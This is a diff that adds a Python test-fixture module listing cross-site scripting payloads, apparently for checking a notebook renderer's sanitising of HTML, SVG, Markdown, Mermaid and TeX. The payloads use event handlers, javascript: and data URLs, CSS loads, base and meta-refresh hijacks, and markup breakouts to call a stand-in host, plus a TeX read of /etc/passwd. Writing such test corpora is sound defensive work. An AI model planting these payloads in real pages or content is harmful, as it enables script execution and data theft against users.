@@ -1,0 +1,158 @@
+# ruff: noqa: E501 - an attack is a line, however long
+"""What attacks are made of: `{script}` stands for code that tells of itself in five ways, `{evil}` for a foreign host.
+
+`{quoted}` and `{coded}` are a page with that code, for an attribute and in base64; `{png}` is a picture.
+"""
+
+from __future__ import annotations
+
+SCRIPT = (
+    "fetch('{evil}/script');new Image().src='{evil}/image';console.log('OWNED:{evil}');"
+    "try{{top.location='{evil}/top'}}catch(e){{}};window.open('{evil}/open')"
+)
+ACTIVE = {
+    "script": "<script>{script}</script>",
+    "script in capitals": "<ScRiPt\n>{script}</sCrIpT >",
+    "script from elsewhere": '<script src="{evil}/x.js"></script>',
+    "module from elsewhere": '<script type="module">import "{evil}/x.mjs"</script>',
+    "script in svg": '<svg><script href="{evil}/x.js"></script><script>{script}</script></svg>',
+    "img onerror": '<img src=x onerror="{script}">',
+    "img onerror without a blank": '<img/src="x"/onerror="{script}">',
+    "svg onload": '<svg onload="{script}"></svg>',
+    "svg animate": '<svg><animate attributeName=x dur=1s onbegin="{script}"></svg>',
+    "svg set": '<svg><set attributeName=x onbegin="{script}"></svg>',
+    "svg foreignObject": '<svg><foreignObject><body onload="{script}"><img src=x onerror="{script}"></foreignObject></svg>',
+    "svg use": '<svg><use href="{evil}/sprite.svg#a"></use><image href="{evil}/svg.png"></image></svg>',
+    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="{script}"></style></mglyph></table></mtext></math>',
+    "body onload": '<body onload="{script}">',
+    "details ontoggle": '<details open ontoggle="{script}"><summary>x</summary>y</details>',
+    "autofocus": '<input autofocus onfocus="{script}">',
+    "video source": '<video><source onerror="{script}" src=x></video>',
+    "audio": '<audio src=x onerror="{script}"></audio><audio src="{evil}/audio" autoplay></audio>',
+    "video": '<video src="{evil}/video" poster="{evil}/poster" autoplay></video>',
+    "animation": '<style>@keyframes a {{ from {{ left: 0 }} }}</style><p style="animation: a 1ms" onanimationstart="{script}">x</p>',
+    "iframe script url": '<iframe src="javascript:{script}"></iframe>',
+    "iframe srcdoc": '<iframe srcdoc="{quoted}"></iframe>',
+    "iframe data url": '<iframe src="data:text/html;base64,{coded}"></iframe>',
+    "iframe elsewhere": '<iframe src="{evil}/frame"></iframe>',
+    "iframe sandboxed by itself": '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="{quoted}"></iframe>',
+    "object data url": '<object data="data:text/html;base64,{coded}"></object>',
+    "object elsewhere": '<object data="{evil}/object"></object>',
+    "embed": '<embed src="{evil}/embed"><embed src="data:image/svg+xml;base64,{coded}">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url={evil}/refresh">',
+    "meta refresh with a slash": '<meta/http-equiv="refresh"/content="0;url={evil}/refresh2">',
+    "form sent at once": '<form id=f action="{evil}/form" method=post><input name=a></form><script>f.submit()</script>',
+    "stylesheet": '<link rel=stylesheet href="{evil}/link.css">',
+    "stylesheet with a slash": '<link/rel=stylesheet href="{evil}/link2.css">',
+    "import": '<style>@import "{evil}/import.css";</style>',
+    "background": '<div style="background:url({evil}/background)">x</div>',
+    "list style": '<ul style="list-style: url({evil}/list)"><li>x</ul>',
+    "selector": '<style>html:has(body) {{ background: url("{evil}/selector") }}</style>',
+    "border image": '<p style="border: 9px solid; border-image: url({evil}/border) 1">x</p>',
+    "cursor and content": '<style>p::before {{ content: url({evil}/content) }}</style><p>x</p>',
+    "font": "<style>@font-face {{ font-family: y; src: url({evil}/font) }} body {{ font-family: y }}</style>x",
+    "svg filter": '<p style="filter: url({evil}/filter.svg#a); mask: url({evil}/mask.svg#a)">x</p>',
+    "picture": '<img src="{evil}/picture">',
+    "picture set": '<img srcset="{evil}/set 1x"><picture><source srcset="{evil}/source"><img></picture>',
+    "picture of a track": '<video><track default src="{evil}/track" kind=captions></video><body background="{evil}/body">',
+    "table background": '<table background="{evil}/table"><tr><td background="{evil}/cell">x</table>',
+    "input image": '<input type=image src="{evil}/input">',
+    "preload": '<link rel=preload as=image href="{evil}/preload"><link rel=modulepreload href="{evil}/module">',
+    "prefetch": '<link rel=prefetch href="{evil}/prefetch"><link rel=prerender href="{evil}/prerender">',
+    "preconnect": '<link rel=preconnect href="{evil}"><link rel=dns-prefetch href="{evil}">',
+    "icon": '<link rel=icon href="{evil}/icon">',
+    "manifest": '<link rel=manifest href="{evil}/manifest">',
+    "speculation": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{evil}/rules"]}}]}}</script>',
+    "import map": '<script type=importmap>{{"imports":{{"a":"{evil}/map.mjs"}}}}</script><script type=module>import "a"</script>',
+    "base": '<base href="{evil}/"><img src="based">',
+    "base of another frame": '<base target=_top href="{evil}"><img src="/based2">',
+    "way out of the cell": "</pre></details></div></section></main></body></html><script>{script}</script>",
+    "way out of a comment": "<!-- --!><script>{script}</script> -->",
+    "way out of a style": "</style></title></textarea></noscript></template><script>{script}</script>",
+    "shadow root": "<div><template shadowrootmode=open><script>{script}</script></template></div>",
+    "popover": '<button popovertarget=p id=b>x</button><p popover id=p onbeforetoggle="{script}">y</p><script>b.click()</script>',
+    "content visibility": '<p style="content-visibility: auto" oncontentvisibilityautostatechange="{script}">x</p>',
+    "dialog": '<dialog open onfocus="{script}"><input autofocus onfocus="{script}"></dialog>',
+    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{evil}/worker')`])))</script>",
+    "beacon": "<script>navigator.sendBeacon('{evil}/beacon');new WebSocket('{evil}/socket'.replace('http','ws'))</script>",
+    "event source": "<script>new EventSource('{evil}/events');const r=new XMLHttpRequest();r.open('GET','{evil}/xhr');r.send()</script>",
+    "require": "<script>require.config({{paths:{{a:'{evil}/amd'}}}});require(['a'])</script><script>{script}</script>",
+}  # fmt: skip
+"""HTML that acts by itself, by name."""
+CLICKED = {
+    "link": '<a id=go href="{evil}/link">go</a>',
+    "link of the whole page": '<a id=go target=_top href="{evil}/top-link">go</a>',
+    "link of a new page": '<a id=go target=_blank href="{evil}/new-page">go</a>',
+    "link of the page around": '<a id=go target=_parent href="{evil}/parent-link">go</a>',
+    "script url": '<a id=go href="javascript:{script}">go</a>',
+    "script url with a tab": '<a id=go href="java\tscript:{script}">go</a>',
+    "script url in capitals": '<a id=go href=" &#1;JaVaScRiPt&colon;{script}">go</a>',
+    "data url": '<a id=go href="data:text/html;base64,{coded}">go</a>',
+    "ping": '<a id=go ping="{evil}/ping" href="#cell-1">go</a>',
+    "download": '<a id=go download href="{evil}/download">go</a>',
+    "area": '<map name=m><area shape=default href="{evil}/area"></map><img id=go usemap="#m" width=99 height=99 src="{png}">',
+    "svg link": '<svg width=99 height=99><a id=go href="{evil}/svg-link"><rect width=99 height=99 /></a></svg>',
+    "button": '<form action="{evil}/button"><button id=go>go</button></form>',
+    "button elsewhere": '<form><button id=go formaction="{evil}/formaction" formtarget=_top>go</button></form>',
+    "button script": '<form action="javascript:{script}"><button id=go>go</button></form>',
+    "clicked script": '<p id=go onclick="{script}" onpointerdown="{script}">go</p>',
+}  # fmt: skip
+"""HTML that acts when `#go` is clicked."""
+_SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"{}>{}</svg>'
+)
+SVG = {
+    "onload": _SVG.format(' onload="{script}"', ""),
+    "script": _SVG.format("", "<script>{script}</script>"),
+    "script from elsewhere": _SVG.format("", '<script href="{evil}/svg.js"/>'),
+    "foreignObject": _SVG.format("", '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{evil}/inner"/></foreignObject>'),
+    "picture": _SVG.format("", '<image href="{evil}/image" xlink:href="{evil}/image2" width="9" height="9"/>'),
+    "use": _SVG.format("", '<use href="{evil}/use.svg#x"/>'),
+    "style": _SVG.format("", '<style>@import url("{evil}/svg.css"); rect {{ fill: url({evil}/fill) }}</style><rect width="9" height="9"/>'),
+    "style sheet": '<?xml-stylesheet href="{evil}/sheet.css"?>' + _SVG.format("", ""),
+    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "{evil}/entity">]>' + _SVG.format("", "<text>&x;</text>"),
+    "animated link": _SVG.format("", '<a><animate attributeName="href" values="javascript:{script}"/><rect width="9" height="9"/></a>'),
+    "filter": _SVG.format("", '<filter id="f"><feImage href="{evil}/feimage"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
+    "cursor": _SVG.format(' style="cursor: url({evil}/cursor)"', "<rect width='9' height='9'/>"),
+    "way out": _SVG.format("", "") + "<script>{script}</script>",
+}  # fmt: skip
+MARKDOWN = {
+    "link": "[go](javascript:{script})",
+    "link with a title": '[go]({evil}/titled "x\\" onmouseover={script}")',
+    "reference": "[go]\n\n[go]: javascript:{script}",
+    "address": "<javascript:{script}> <{evil}/auto>",
+    "picture": "![x]({evil}/markdown)",
+    "picture with a quote": '![x" onerror="{script}](x)',
+    "picture of a reference": "![x][y]\n\n[y]: {evil}/reference",
+    "picture of a script": "![x](javascript:{script})",
+    "picture of a page": "![x](data:text/html;base64,{coded})",
+    "picture of an svg": "![x](data:image/svg+xml;base64,{coded})",
+    "heading": "# <img src=x onerror={script}>\n\n## [x](javascript:{script})",
+    "table": "|<script>{script}</script>|b|\n|---|---|\n|<img src=x onerror={script}>|c|",
+    "footnote": "x[^1]\n\n[^1]: <img src=x onerror={script}>",
+    "code language": '```"><script>{script}</script>\nx\n```',
+    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror={script}>"]; click A href "javascript:{script}"\n```',
+    "mermaid directive": "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; A-->B; click A call alert()\n```",
+    "mermaid element": '<div class="mermaid">graph TD; A["<img src=x onerror={script}>"]</div>',
+    "autolinked": "{evil}/bare www.example.com/{script}",
+}
+FORMULA = {
+    "href": "\\href{{javascript:{script}}}{{x}}",
+    "unicode": "\\unicode{{<img src=x onerror={script}>}}",
+    "require": "\\require{{html}}\\style{{background:url({evil}/tex)}}{{x}}",
+    "class": '\\class{{x" onclick="{script}}}{{x}}',
+    "id": "\\cssId{{x}}{{<script>{script}</script>}}",
+    "text": "\\text{{</span><img src=x onerror={script}>}}",
+    "mathml": "\\mmlToken{{mi}}[onclick='{script}']{{x}}",
+    "includegraphics": "\\includegraphics{{{evil}/graphics.png}}",
+    "input": "\\input{{/etc/passwd}}",
+    "macro": "\\def\\x{{\\x\\x}}\\x",
+}
+KINDS = (
+    "application/javascript", "text/javascript", "application/x-javascript", "application/xhtml+xml", "text/xml",
+    "application/pdf", "application/x-shockwave-flash", "application/vnd.bokehjs_exec.v0+json",
+    "application/vnd.holoviews_exec.v0+json", "application/vnd.vega.v5+json", "application/geo+json",
+    "application/vnd.jupyter.es6-rich-output", "image/svg", "text/html; charset=utf-7", "TEXT/HTML",
+    '"><img src=x onerror="{script}">',
+)  # fmt: skip
+BAD_NAME = '"><img src=x onerror="{script}"><script>{script}</script>'
